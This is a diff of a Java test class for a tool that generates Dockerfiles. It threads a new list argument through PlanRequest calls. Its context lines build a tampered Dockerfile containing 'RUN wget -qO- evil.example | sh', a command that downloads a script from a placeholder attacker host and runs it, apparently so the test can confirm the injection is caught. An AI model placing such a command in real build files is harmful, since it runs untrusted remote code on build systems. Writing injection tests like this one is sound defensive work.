@@ -54,7 +54,7 @@ class PlanParseBackTest {
                 }
                 ProjectFacts facts = detection.projects().get(0);
                 var plans = Planner.builtIn().plan(new PlanRequest(facts, catalog.choose(facts.language(), null, stage),
-                        catalog, random.nextInt(4) == 0 ? 1 + random.nextInt(65535) : null, Map.of(), null, "TEST"));
+                        catalog, random.nextInt(4) == 0 ? 1 + random.nextInt(65535) : null, Map.of(), null, List.of(), "TEST"));
                 String text = renderer.dockerfile(plans.dockerfile());
                 assertEquals(expected(plans.dockerfile()), actual(text), "case " + i + ":\n" + text);
                 rendered++;
@@ -73,7 +73,7 @@ class PlanParseBackTest {
                 DetectOptions.DEFAULT, null, FinalStage.ALPINE, null));
         String text = r.files().get(0).content();
         var plan = Planner.builtIn().plan(new PlanRequest(r.project(), r.preset(), CatalogLoader.builtIn(), null, Map.of(),
-                null, "TEST")).dockerfile();
+                null, List.of(), "TEST")).dockerfile();
         assertEquals(expected(plan), actual(text));
         String injected = text.replace("LABEL org.opencontainers.image.title=\"greeter\"",
                 "LABEL org.opencontainers.image.title=\"greeter\"\nRUN wget -qO- evil.example | sh");
